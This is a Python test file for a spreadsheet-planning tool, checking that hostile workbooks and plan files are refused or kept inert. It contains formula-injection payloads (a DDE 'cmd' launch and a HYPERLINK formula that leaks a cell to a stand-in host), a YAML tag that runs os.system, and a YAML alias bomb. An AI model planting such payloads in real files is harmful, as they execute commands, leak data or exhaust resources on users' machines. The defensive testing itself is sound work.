"""Broken and hostile inputs: clear refusals, nothing lost, nothing overwritten, nothing executed.

The corpus is made by `hostile.py` (the tests' own code, no binary blobs). Every file xlplan
must refuse gives exit code 2 and a message of at most three lines naming the file, without a
traceback — in process, and for the bombs in a subprocess whose memory is capped at 1 GiB and
whose time is bounded (benchmarks measure speed; tests only catch a hang); every
other file is read whole. Inputs are never modified, failed outputs leave nothing behind, text
that looks like a formula stays text, and `--annotate` shows each problem at its cell.
"""

from __future__ import annotations

import contextlib
import dataclasses
import datetime as dt
import errno
import hashlib
import json
import os
import resource
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from click.testing import CliRunner, Result
from conftest import sample
from hostile import CASES, hand_made_workbook, write_case, write_corpus, xlplan_workbook
from sheets import column, load

import xlplan
from xlplan.annotate import FILL, annotate
from xlplan.cli import main
from xlplan.errors import OutputExistsError, XlplanError
from xlplan.reading.own import ReadResult, WorkbookError, read
from xlplan.writing.workbook import build
from xlplan.xlsx import guard as safety

REFUSED = sorted(name for name, case in CASES.items() if case.refused)
READ = sorted(name for name, case in CASES.items() if case.refused is None)
BOMBS = sorted(name for name, case in CASES.items() if case.bomb)
SUBPROCESS_SECONDS = 120.0  # Python, pandas and the file, under a memory cap, several at once
MEMORY_CAP = 1024**3
AS_OF = dt.date(2024, 6, 30)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return write_corpus(tmp_path_factory.mktemp("hostile"))


def run(*args: str | Path) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args])


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def actions(result: ReadResult) -> list[tuple[str, list[Decimal]]]:
    return [(a.title, a.budget.values()) for a in result.plan.actions]


def assert_refused(result: Result, path: Path, fragment: str) -> None:
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert 1 <= len(lines) <= 3, result.stderr
    assert path.name in result.stderr
    assert fragment in result.stderr


# --- the corpus, file by file ---------------------------------------------------------------------
@pytest.mark.parametrize("name", REFUSED)
def test_report_refuses_a_broken_or_hostile_file_in_one_clear_message(
    corpus: dict[str, Path], name: str
) -> None:
    path = corpus[name]
    result = run("report", path)
    assert_refused(result, path, CASES[name].refused or "")


@pytest.mark.parametrize("name", READ)
def test_report_reads_what_only_looks_odd(corpus: dict[str, Path], name: str) -> None:
    result = run("report", corpus[name])
    assert result.exit_code in (0, 1), (result.output, result.exception)
    assert isinstance(result.exception, SystemExit | None)
    assert "Traceback" not in result.output
    assert result.stdout


@pytest.mark.parametrize(
    "name", ["lying-size", "huge-dimension", "stale-dimension", "macros"], ids=str
)
def test_nothing_is_lost_whatever_the_sizes_claim(
    corpus: dict[str, Path], name: str, tmp_path: Path
) -> None:
    original = tmp_path / "original.xlsx"
    original.write_bytes(xlplan_workbook())
    expected = read(original)
    found = read(corpus[name])
    assert actions(found) == actions(expected)
    assert len(found.plan.actions) == 14
    assert found.plan.model_dump() == expected.plan.model_dump()


@pytest.mark.parametrize("name", ["huge-dimension-hand-made", "styled-far-cell"])
def test_a_hand_made_table_with_odd_sizes_is_read_whole(corpus: dict[str, Path], name: str) -> None:
    assert actions(read(corpus[name])) == [
        ("Vidéo de présentation", [Decimal(1250), 0, 0, 0]),
        ("Newsletter", [0, 30, 50, 199]),
        ("Boutique mimine.fr", [0, Decimal(2500), Decimal(7500), 0]),
    ]


def test_a_huge_dimension_claim_is_ignored(corpus: dict[str, Path]) -> None:
    from xlplan.xlsx.grid import Book

    book = Book(corpus["huge-dimension"])
    try:
        sheets = [book.sheet(name) for name in book.sheetnames]
    finally:
        book.close()
    assert max(len(s.rows) for s in sheets) < 1000  # not the 1 048 576 rows it claims
    assert max(len(row) for s in sheets for row in s.rows) < 200  # nor its 16 384 columns


def _cap_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


def test_bombs_in_a_subprocess_stay_within_memory_and_time(corpus: dict[str, Path]) -> None:
    """The real command, with its memory capped at 1 GiB: a bomb that got through would die
    with a MemoryError (and a traceback); a hang would hit the timeout."""
    env = os.environ | {"OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1"}
    code = "from xlplan.cli import main; main()"
    started = {
        name: subprocess.Popen(
            [sys.executable, "-c", code, "report", str(corpus[name])],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=env,
            preexec_fn=_cap_memory,
        )
        for name in BOMBS
    }
    failures = []
    for name, proc in started.items():
        try:
            _, stderr = proc.communicate(timeout=SUBPROCESS_SECONDS)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.communicate()
            failures.append(f"{name}: still running after {SUBPROCESS_SECONDS} s")
            continue
        refused = CASES[name].refused
        expected = (2,) if refused else (0, 1)
        if proc.returncode not in expected or "Traceback" in stderr:
            failures.append(f"{name}: exit code {proc.returncode}: {stderr[-400:]}")
        elif refused and (len(stderr.strip().splitlines()) > 3 or refused not in stderr):
            failures.append(f"{name}: {stderr}")
    assert failures == []


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_check_reports_every_corpus_file_without_stopping(
    corpus: dict[str, Path], jobs: str
) -> None:
    result = run("check", "--format", "json", "--jobs", jobs, *corpus.values())
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    files = json.loads(result.stdout)["files"]
    assert [Path(f["file"]) for f in files] == list(corpus.values())  # (each, in order)
    statuses = {Path(f["file"]).stem: f["status"] for f in files}
    assert {n for n, s in statuses.items() if s == "unusable"} == set(REFUSED)
    assert all(Path(f["file"]).name in f["error"] for f in files if f["status"] == "unusable")


def test_read_refuses_every_such_file_with_a_workbook_error(corpus: dict[str, Path]) -> None:
    for name in REFUSED:
        with pytest.raises(WorkbookError, match=str(corpus[name].name)):
            read(corpus[name])
        if name != "shared-string-missing":  # only openpyxl, reading the cells, can tell
            with pytest.raises(XlplanError):
                safety.inspect_workbook(corpus[name])


def test_the_hand_made_table_reader_refuses_them_too(corpus: dict[str, Path]) -> None:
    from xlplan.reading.handmade import read_table

    for name in ("entity-bomb-hand-made", "merge-bomb", "hyperlink-bomb", "far-cell", "empty"):
        with pytest.raises(WorkbookError, match=name):
            read_table(corpus[name])


# --- each limit, with small files -----------------------------------------------------------------
LIMIT_CASES = {  # limit -> (a smaller value, the refusal's words, the corpus file past the default)
    "max_members": (5, "files inside the zip", "too-many-members"),
    "max_member_bytes": (10_000, "would inflate to", "zip-bomb-member"),
    "max_total_bytes": (100_000, "more than 100,000 bytes", "zip-bomb-total"),
    "ratio_floor": (1_000, "compressed", "zip-bomb-ratio"),
    "max_cells": (500, "more than 500 cells", "many-cells"),
    "max_area": (500, "more than 500 cells with the other sheets", "far-cell"),
    "max_strings": (10, "more than 10 shared strings", "many-strings"),
    "max_xml_elements": (1_000, "more than 1,000 XML elements", None),
}


@pytest.mark.parametrize("limit", LIMIT_CASES)
def test_each_limit_refuses_what_exceeds_it(
    limit: str, tmp_path: Path, corpus: dict[str, Path]
) -> None:
    """The library, with a limit made small; the command line, which always reads with the
    default limits, with the corpus file that exceeds that limit (20 million XML elements would
    take a file too large for the tests: the library's refusal stands for it)."""
    value, message, case = LIMIT_CASES[limit]
    path = tmp_path / "plan.xlsx"
    path.write_bytes(xlplan_workbook())
    xlplan.read(path)  # fine with the real limits
    limits = dataclasses.replace(safety.LIMITS, **{limit: value})
    if limit == "ratio_floor":
        limits = dataclasses.replace(limits, max_ratio=2)
    with pytest.raises(WorkbookError, match=message):
        xlplan.read(path, limits=limits)
    if case is not None:  # (its refusal words, at the default limit, are the corpus case's)
        assert_refused(run("report", corpus[case]), corpus[case], CASES[case].refused or "?")


def test_the_limits_are_documented_constants() -> None:
    assert safety.MAX_TOTAL_BYTES == 512 * 1024 * 1024
    assert safety.MAX_MEMBER_BYTES == 256 * 1024 * 1024
    assert (safety.MAX_RATIO, safety.RATIO_FLOOR) == (200, 1024 * 1024)
    assert safety.MAX_MEMBERS == 10_000
    for name in ("MAX_CELLS", "MAX_AREA", "MAX_STRINGS", "MAX_XML_ELEMENTS"):
        assert name in (safety.__doc__ or ""), name


def test_defusedxml_stands_behind_the_scan(tmp_path: Path) -> None:
    """openpyxl parses with defusedxml: were a DTD to get past the scan, the entities would
    still be refused, with the same kind of message."""
    from defusedxml.ElementTree import fromstring
    from hostile import BILLION_LAUGHS

    assert openpyxl.DEFUSEDXML
    bomb = BILLION_LAUGHS + b"<worksheet>&lol9;</worksheet>"
    refused = pytest.raises(WorkbookError, match=r"declares entities.*refused as hostile")
    with refused, safety.parser_errors(tmp_path / "x.xlsx"):
        fromstring(bomb)


def test_a_damaged_workbook_is_told_from_a_bug_in_xlplan(tmp_path: Path) -> None:
    """What openpyxl raises is the workbook's fault; what xlplan raises is a bug, left alone."""

    def openpyxl_fails() -> None:
        from openpyxl.utils.cell import coordinate_to_tuple

        coordinate_to_tuple("ZZZZ1")  # KeyError, in openpyxl

    with pytest.raises(WorkbookError, match="damaged"), safety.parser_errors(tmp_path / "x.xlsx"):
        openpyxl_fails()
    with pytest.raises(KeyError), safety.parser_errors(tmp_path / "x.xlsx"):
        {}["ours"]


# --- every bad value collected, with its cell -----------------------------------------------------
def bad_values(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """Bob's plan with six kinds of bad values; returns the file and the cell of each."""
    tmp_path.mkdir(parents=True, exist_ok=True)
    wb = load(build(sample("bob"), tmp_path / "bob.xlsx", as_of=AS_OF))
    plan = wb["Plan d'action"]
    cells = {
        "text budget": f"{column(plan, 'Budget T2')}6",
        "not a date": f"{column(plan, 'Début')}7",
        "negative budget": f"{column(plan, 'Budget T3')}5",
        "duplicate id": f"{column(plan, 'ID')}8",
        "unknown owner": f"{column(plan, 'Responsable')}6",
        "#REF!": f"{column(plan, 'Réel T1')}5",
    }
    plan[cells["text budget"]] = "douze"
    plan[cells["not a date"]] = "31/02/2023"
    plan[cells["negative budget"]] = -500
    plan[cells["duplicate id"]] = plan[f"{column(plan, 'ID')}5"].value
    plan[cells["unknown owner"]] = "Inconnu Nouveau"
    plan[cells["#REF!"]] = "#REF!"
    wb.save(tmp_path / "edited.xlsx")
    return tmp_path / "edited.xlsx", cells


def test_every_bad_value_is_collected_in_one_read(tmp_path: Path) -> None:
    path, cells = bad_values(tmp_path)
    problems = read(path).problems
    found = {(p.severity, p.sheet, p.cell): p.message for p in problems}
    plan = "Plan d'action"
    expected = {
        ("error", plan, cells["text budget"]): "douze",
        ("error", plan, cells["not a date"]): "31/02/2023",
        ("error", plan, cells["negative budget"]): "-500",
        ("error", plan, cells["duplicate id"]): "duplicate id",
        ("warning", plan, cells["unknown owner"]): "Inconnu Nouveau",
        ("error", plan, cells["#REF!"]): "#REF!",
    }
    for where, fragment in expected.items():
        assert where in found, (where, sorted(found))
        assert fragment in found[where]
    result = run("import", path, "-o", tmp_path / "plan.yaml")  # (report lists them in its table)
    assert result.exit_code == 1
    for severity, sheet, cell in expected:
        assert f"{severity}: {path}: {sheet}!{cell}:" in result.stderr


def test_strict_counts_warnings_as_errors(tmp_path: Path) -> None:
    wb = load(build(sample("bob"), tmp_path / "bob.xlsx", as_of=AS_OF))
    plan = wb["Plan d'action"]
    plan[f"{column(plan, 'Responsable')}6"] = "Inconnu Nouveau"  # a warning, nothing else
    wb.save(tmp_path / "warned.xlsx")
    path = tmp_path / "warned.xlsx"
    assert {p.severity for p in read(path).problems} == {"warning"}
    assert run("report", path).exit_code == 0
    assert run("report", path, "--strict").exit_code == 1
    assert run("report", path, "--strict", "--format", "json").exit_code == 1
    assert run("import", path, "-o", tmp_path / "a.yaml").exit_code == 0
    assert run("import", path, "-o", tmp_path / "b.yaml", "--strict").exit_code == 1
    assert (tmp_path / "b.yaml").exists()  # written all the same, as with errors
    clean = tmp_path / "bob.xlsx"
    assert run("report", clean, "--strict").exit_code == 0


# --- nothing modified, nothing half-written -------------------------------------------------------
def test_inputs_are_never_modified(corpus: dict[str, Path], tmp_path: Path) -> None:
    bad, _ = bad_values(tmp_path / "bad")
    files = [*corpus.values(), bad]
    folders = {f.parent for f in files}
    before = {f: digest(f) for f in files}
    listing = {d: sorted(p.name for p in d.iterdir()) for d in folders}
    out = tmp_path / "out"
    out.mkdir()
    for f in files:
        with contextlib.suppress(XlplanError):
            read(f)
        run("report", f, "--format", "json")
        run("import", f, "-o", out / "plan.yaml", "--force")
    run("check", "--jobs", "1", *files)
    for f in (bad, corpus["macros"], corpus["styled-far-cell"]):
        assert run("report", f, "--annotate", out / f"{f.stem}.xlsx").exit_code in (0, 1)
    assert {f: digest(f) for f in files} == before
    assert {d: sorted(p.name for p in d.iterdir()) for d in folders} == listing


def test_a_failed_build_leaves_no_partial_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import xlsxwriter

    def crash(self: Any) -> None:
        Path(self.filename).write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError("disk full")

    kept = build(sample("mimine"), tmp_path / "kept.xlsx", as_of=AS_OF)
    before = digest(kept)
    monkeypatch.setattr(xlsxwriter.Workbook, "close", crash)
    with pytest.raises(OSError, match="disk full"):
        build(sample("mimine"), tmp_path / "new.xlsx")
    with pytest.raises(OSError, match="disk full"):
        build(sample("mimine"), kept, force=True)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kept.xlsx"]
    assert digest(kept) == before


def test_a_failed_import_leaves_no_partial_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import xlplan.output

    workbook = build(sample("mimine"), tmp_path / "m.xlsx", as_of=AS_OF)
    (tmp_path / "old.yaml").write_text("kept\n")

    def refuse(src: Any, dst: Any, **_: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(xlplan.output.os, "replace", refuse)
    monkeypatch.setattr(xlplan.output.os, "link", refuse)
    result = run("import", workbook, "-o", tmp_path / "plan.yaml")
    assert_refused(result, tmp_path / "plan.yaml", "No space left on device")
    result = run("import", workbook, "-o", tmp_path / "old.yaml", "--force")
    assert_refused(result, tmp_path / "old.yaml", "No space left on device")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.xlsx", "old.yaml"]
    assert (tmp_path / "old.yaml").read_text() == "kept\n"


def test_an_import_refused_before_reading_writes_nothing(tmp_path: Path) -> None:
    (tmp_path / "broken.xlsx").write_bytes(b"")
    result = run("import", tmp_path / "broken.xlsx", "-o", tmp_path / "plan.yaml")
    assert_refused(result, tmp_path / "broken.xlsx", "empty")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken.xlsx"]


def test_a_failed_annotated_copy_leaves_no_partial_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl.workbook.workbook import Workbook

    path, _ = bad_values(tmp_path)

    def crash(self: Any, filename: Any) -> None:
        Path(filename).write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError("disk full")

    monkeypatch.setattr(Workbook, "save", crash)
    with pytest.raises(OSError, match="disk full"):
        annotate(path, read(path).problems, tmp_path / "annotated.xlsx")
    assert not (tmp_path / "annotated.xlsx").exists()
    assert not list(tmp_path.glob(".annotated.xlsx.*"))


# --- no formula injection -------------------------------------------------------------------------
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"clic")',
    "=1+1\n=2+2",
]


def _payload_cells(path: Path) -> list[tuple[str, str, Any, str]]:
    """(sheet, cell, value, data type) of every cell whose text carries one of the payloads."""
    wb = load(path)
    marks = ("1+1", "cmd|", "HYPERLINK", "SUM(A1:A2)")
    return [
        (ws.title, c.coordinate, c.value, c.data_type)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and any(m in c.value for m in marks)
    ]


def _assert_all_text(path: Path, minimum: int) -> None:
    cells = _payload_cells(path)
    assert len(cells) >= minimum, cells
    assert [c for c in cells if c[3] != "s"] == []
    for text in ("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)"):
        assert any(c[2] == text for c in cells), text


def test_text_from_a_plan_file_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    data = {
        "name": "=cmd|' /C calc'!A0",
        "business": "@SUM(A1:A2)",
        "year": 2024,
        "owners": [{"name": "=cmd|' /C calc'!A0", "role": "-2+3+cmd|' /C calc'!A0"}],
        "objectives": [{"id": "O1", "title": "+1+1"}],
        "kpis": [{"id": "K1", "name": "-1+1", "objective": "O1", "target": 10}],
        "actions": [
            {
                "title": text,
                "objectives": ["O1"],
                "kpis": ["K1"],
                "owner": "=cmd|' /C calc'!A0",
                "notes": text,
                "extra": {"Pays": text},
                "budget": [100, 0, 0, 0],
            }
            for text in PAYLOADS
        ],
    }
    plan_file = tmp_path / "plan.yaml"
    plan_file.write_text(yaml.safe_dump(data, allow_unicode=True))
    result = run("build", plan_file, "-o", tmp_path / "plan.xlsx")
    assert result.exit_code == 0, result.output
    _assert_all_text(tmp_path / "plan.xlsx", minimum=3 * len(PAYLOADS))
    again = read(tmp_path / "plan.xlsx").plan
    assert [a.extra["Pays"] for a in again.actions] == [
        a.extra["Pays"] for a in xlplan.load_plan(plan_file).actions
    ]


def test_text_from_a_hand_made_table_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Plan"
    ws.append(["Action", "Objectif", "Responsable", "Notes", "Pays", "Budget T1", "Budget T2"])
    for text in PAYLOADS:
        ws.append([text, "+1+1", "=cmd|'calc'!A0", text, text, 100, 0])
    for row in ws.iter_rows(min_row=2):
        for cell in row[:5]:
            cell.data_type = "s"  # typed as text, as a person would (with a leading ')
    wb.save(tmp_path / "table.xlsx")
    assert _payload_cells(tmp_path / "table.xlsx")  # the payloads are there, as text
    result = run("import", tmp_path / "table.xlsx", "-o", tmp_path / "plan.yaml")
    assert result.exit_code in (0, 1), result.output
    imported = xlplan.load_plan(tmp_path / "plan.yaml")
    assert [o.name for o in imported.owners] == ["=cmd|'calc'!A0"]
    build(imported, tmp_path / "plan.xlsx")
    _assert_all_text(tmp_path / "plan.xlsx", minimum=3 * len(PAYLOADS))


# --- the annotated copy ---------------------------------------------------------------------------
def test_annotate_highlights_and_comments_each_problem_cell(tmp_path: Path) -> None:
    path, _ = bad_values(tmp_path)
    before = digest(path)
    problems = read(path).problems
    out = tmp_path / "annotated.xlsx"
    result = run("report", path, "--annotate", out)
    assert result.exit_code == 1, result.output
    assert f"wrote {out}" in result.stderr
    assert digest(path) == before
    wb = load(out)
    for p in problems:
        cell = wb[p.sheet][p.cell]
        assert cell.fill.fgColor.rgb == "00" + FILL[p.severity], (p, cell.fill.fgColor.rgb)
        assert p.text("fr") in cell.comment.text  # (the workbook's language)
    assert wb.sheetnames[0] == "Problèmes"
    listing = wb["Problèmes"]
    rows = [[c.value for c in row] for row in listing.iter_rows()]
    assert rows[0] == ["Gravité", "Feuille", "Cellule", "Message"]
    assert sorted(rows[1:]) == sorted(
        [{"error": "erreur", "warning": "avertissement"}[p.severity], p.sheet, p.cell, p.text("fr")]
        for p in problems
    )
    for row in listing.iter_rows(min_row=2):
        assert row[2].hyperlink.location == "'{}'!{}".format(
            row[1].value.replace("'", "''"), row[2].value
        )
        assert row[2].hyperlink.target is None  # an internal link, no HYPERLINK formula
        assert {c.data_type for c in row} == {"s"}
    # the rest of the workbook is the team's: same sheets, same values
    original = load(path)
    assert wb.sheetnames[1:] == original.sheetnames
    assert [c.value for c in wb["Plan d'action"][6]] == [
        c.value for c in original["Plan d'action"][6]
    ]


def test_annotate_speaks_the_plans_language_and_keeps_the_teams_comments(tmp_path: Path) -> None:
    from openpyxl.comments import Comment

    wb = load(build(sample("northwind-coffee"), tmp_path / "nw.xlsx", as_of=AS_OF))
    plan = wb["Action plan"]
    ref = f"{column(plan, 'Budget Q2')}5"
    plan[ref] = "twelve"
    plan[ref].comment = Comment("Ask Priya", "Team")
    wb.save(tmp_path / "edited.xlsx")
    out = annotate(
        tmp_path / "edited.xlsx",
        read(tmp_path / "edited.xlsx").problems,
        tmp_path / "a.xlsx",
        lang="en",
    )
    copy = load(out)
    assert copy.sheetnames[0] == "Problems"
    assert [c.value for c in copy["Problems"][1]] == ["Severity", "Sheet", "Cell", "Message"]
    text = copy["Action plan"][ref].comment.text
    assert text.startswith("Ask Priya") and "twelve" in text


def test_annotate_never_replaces_a_file_unless_asked_and_never_the_workbook(
    tmp_path: Path,
) -> None:
    path, _ = bad_values(tmp_path)
    out = tmp_path / "annotated.xlsx"
    out.write_bytes(b"mine")
    result = run("report", path, "--annotate", out)
    assert_refused(result, out, "already exists")
    assert out.read_bytes() == b"mine"
    result = run("report", path, "--annotate", path, "--force")
    assert_refused(result, path, "is the input")
    with pytest.raises(OutputExistsError):
        annotate(path, [], path, force=True)
    assert run("report", path, "--annotate", out, "--force").exit_code == 1
    assert "Problèmes" in load(out).sheetnames
    result = run("import", path, "-o", tmp_path / "p.yaml", "--annotate", tmp_path / "i.xlsx")
    assert result.exit_code == 1 and (tmp_path / "i.xlsx").exists()


def test_annotate_a_hand_made_table_and_a_workbook_with_macros(
    corpus: dict[str, Path], tmp_path: Path
) -> None:
    table = tmp_path / "table.xlsx"
    table.write_bytes(hand_made_workbook())
    wb = load(table)
    wb["Plan"]["E4"] = "trente"  # Budget T2 of the newsletter
    wb.save(table)
    problems = read(table).problems
    assert ("error", "Plan", "E4") in {(p.severity, p.sheet, p.cell) for p in problems}
    out = annotate(table, problems, tmp_path / "a.xlsx")
    assert "trente" in load(out)["Plan"]["E4"].comment.text
    macros = write_case(tmp_path, "macros")
    out = annotate(macros, read(macros).problems, tmp_path / "m.xlsx")
    with openpyxl.reader.excel.ZipFile(out) as zf:
        assert "xl/vbaProject.bin" not in zf.namelist()  # never kept
        assert b"macroEnabled" not in zf.read("[Content_Types].xml")


def test_libreoffice_opens_the_annotated_copy(tmp_path: Path) -> None:
    from lo import recalculate

    path, _ = bad_values(tmp_path)
    out = annotate(path, read(path).problems, tmp_path / "annotated.xlsx")
    saved = load(recalculate(out, tmp_path / "lo"))
    assert saved.sheetnames[0] == "Problèmes"
    assert saved["Problèmes"].max_row == len(read(path).problems) + 1


# --- plan files -----------------------------------------------------------------------------------
def _alias_bomb() -> str:
    levels = ['&l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    levels += [f"&l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 10)]
    return f"name: Bomb\nyear: 2024\nactions:\n  - title: [{', '.join(levels)}]\n"


PLAN_FILES = {
    "invalid.yaml": ("name: [unclosed\nyear: 2024\n", "not valid YAML"),
    "invalid.json": ('{"name": "x", "year": 2024,', "not valid JSON"),
    "wrong-type.yaml": ("name: Plan\nyear: 2024\nactions: 5\n", "actions"),
    "a-list.yaml": ("- name: Plan\n", "expected a mapping"),
    "empty.yaml": ("", "empty file"),
    "python-tag.yaml": (
        "name: !!python/object/apply:os.system ['touch {marker}']\nyear: 2024\n",
        "not valid YAML",
    ),
    "python-name.yaml": ("name: !!python/name:os.system\nyear: 2024\n", "not valid YAML"),
    "alias-bomb.yaml": (_alias_bomb(), "actions[0].title"),
}


@pytest.mark.parametrize("name", sorted(PLAN_FILES))
def test_build_refuses_a_bad_plan_file_in_one_line(name: str, tmp_path: Path) -> None:
    text, fragment = PLAN_FILES[name]
    marker = tmp_path / "executed"
    plan_file = tmp_path / name
    plan_file.write_text(text.format(marker=marker) if "{marker}" in text else text)
    result = run("build", plan_file, "-o", tmp_path / "out.xlsx")
    assert_refused(result, plan_file, fragment)
    assert len(result.stderr.strip().splitlines()) == 1
    assert not marker.exists()
    assert not (tmp_path / "out.xlsx").exists()


def test_build_refuses_a_huge_plan_file_without_reading_it(tmp_path: Path) -> None:
    from xlplan.model.files import MAX_PLAN_FILE_BYTES

    plan_file = tmp_path / "huge.yaml"
    with plan_file.open("wb") as f:
        f.truncate(MAX_PLAN_FILE_BYTES + 1)  # sparse: no disk used
    result = run("build", plan_file, "-o", tmp_path / "out.xlsx")
    assert_refused(result, plan_file, "too large")
    assert len(result.stderr.strip().splitlines()) == 1


def test_build_refuses_a_plan_file_that_is_not_text(tmp_path: Path) -> None:
    plan_file = tmp_path / "plan.yaml"
    plan_file.write_bytes(xlplan_workbook())  # a workbook given as the plan file
    result = run("build", plan_file, "-o", tmp_path / "out.xlsx")
    assert_refused(result, plan_file, "not UTF-8")


# --- round two: what xlplan writes, it and others read back; nothing silently lost ----------------
HOSTILE_TEXT_PLAN = (
    'name: "Plan\\a"\nyear: 2024\nowners: [{name: "Zo\\x01"}]\n'
    'objectives: [{title: "O\\x02 _x0041_"}]\nkpis: [{name: "K\\x03", unit: "u\\x04"}]\n'
    'actions:\n  - title: "A\\x07b _x0041_"\n    owner: "Zo\\x01"\n    objectives: [O1]\n'
    '    notes: "n\\x1f"\n    extra: {"x_\\x05": "v\\x06"}\n'
)


def test_control_characters_in_texts_make_a_workbook_everyone_opens(tmp_path: Path) -> None:
    """BEL and other C0 characters, and literal _xHHHH_ sequences, come back as typed: the
    cached results of the formulas that repeat them are escaped like the strings."""
    from lo import recalculate

    plan_file = tmp_path / "plan.yaml"
    plan_file.write_text(HOSTILE_TEXT_PLAN, encoding="utf-8")
    plan = xlplan.load_plan(plan_file)
    assert plan.actions[0].title == "A\x07b _x0041_"
    out = build(plan, tmp_path / "plan.xlsx", as_of=AS_OF)
    load(out)  # openpyxl: well-formed XML
    assert read(out).plan == plan
    again = read(recalculate(out, tmp_path / "lo"))  # LibreOffice opens, recalculates, saves
    assert [p for p in again.problems if p.severity == "error"] == []
    assert again.plan == plan


@pytest.mark.parametrize("title", ["Total", "Sous-total", "TOTAL (€)", "total"])
def test_an_action_titled_like_a_total_row_is_an_action_in_an_own_workbook(
    title: str, tmp_path: Path
) -> None:
    plan = xlplan.Plan.model_validate(
        {
            "name": "Plan",
            "year": 2024,
            "actions": [
                {"title": title, "budget": [100, 50, 0, 0]},
                {"title": "Vidéo", "budget": [10, 1, 0, 0]},
            ],
        }
    )
    result = read(build(plan, tmp_path / "p.xlsx", as_of=AS_OF))
    assert actions(result) == [
        (title, [Decimal(100), Decimal(50), Decimal(0), Decimal(0)]),
        ("Vidéo", [Decimal(10), Decimal(1), Decimal(0), Decimal(0)]),
    ]
    assert result.plan == plan


def test_build_refuses_a_plan_whose_workbook_xlplan_could_not_read_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One set of limits: the writer refuses what the reader would refuse (here with limits a
    hundred times smaller, so that the plan stays small)."""
    import xlplan.writing.workbook as writer
    from xlplan.xlsx.limits import Limits

    small = Limits(max_cells=50_000, max_area=50_000)
    monkeypatch.setattr(writer, "LIMITS", small)
    plan = xlplan.Plan.model_validate(
        {"name": "P", "year": 2024, "actions": [{"title": f"a{i}"} for i in range(1_000)]}
    )
    with pytest.raises(xlplan.PlanValidationError, match="more than the 50,000 xlplan reads"):
        build(plan, tmp_path / "big.xlsx")
    assert list(tmp_path.iterdir()) == []
    plan_file = xlplan.save_plan(plan, tmp_path / "big.yaml")  # (the refusal names the file)
    result = run("build", plan_file, "-o", tmp_path / "big.xlsx")
    assert_refused(result, plan_file, "big.yaml: actions: 1,000 actions")
    plan_file.unlink()
    accepted = plan.model_copy(update={"actions": plan.actions[:300]})
    path = build(accepted, tmp_path / "ok.xlsx")
    assert len(read(path, limits=small).plan.actions) == 300


@pytest.mark.parametrize("timeline", ["months", "weeks"])
def test_the_writers_cell_count_bounds_the_cells_written(timeline: str, tmp_path: Path) -> None:
    import zipfile

    from xlplan.layout.spec import capacities
    from xlplan.writing.workbook import workbook_cells

    plan = sample("mimine").model_copy(update={"timeline": timeline})
    path = build(plan, tmp_path / "p.xlsx", as_of=AS_OF)
    with zipfile.ZipFile(path) as zf:
        written = sum(
            zf.read(n).count(b"<c ") for n in zf.namelist() if n.startswith("xl/worksheets/")
        )
    caps = capacities(len(plan.actions), len(plan.objectives), len(plan.kpis), len(plan.owners))
    bound = workbook_cells(plan, caps, 0)
    assert written <= bound <= written + 6_000


def test_a_guide_whose_fiscal_year_ends_after_9999_is_refused_in_one_line(tmp_path: Path) -> None:
    wb = load(build(sample("mimine"), tmp_path / "m.xlsx", as_of=AS_OF))
    guide = wb.worksheets[0]
    cells = [c for row in guide.iter_rows() for c in row if isinstance(c.value, dt.datetime)]
    assert cells  # (the fiscal year's first day)
    cells[0].value = cells[0].value.replace(year=9999)
    wb.save(tmp_path / "9999.xlsx")
    result = run("report", tmp_path / "9999.xlsx")
    assert_refused(result, tmp_path / "9999.xlsx", "ends after 9999-12-31")


def test_an_extra_date_before_1900_is_refused_at_validation(
    tmp_path: Path,
) -> None:
    plan_file = tmp_path / "plan.yaml"
    plan_file.write_text(
        "name: P\nyear: 2024\nactions:\n  - title: A\n    extra: {x_d: 1850-01-01}\n"
    )
    result = run("build", plan_file, "-o", tmp_path / "p.xlsx")
    assert_refused(result, plan_file, "1850-01-01 is outside the dates a spreadsheet can hold")


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_a_workbook_that_is_a_pipe_or_a_device_is_refused_at_once(
    kind: str, tmp_path: Path
) -> None:
    path = Path("/dev/zero")
    if kind == "fifo":
        path = tmp_path / "plan.xlsx"
        os.mkfifo(path)
    with pytest.raises(WorkbookError, match="not a file but a pipe or a device"):
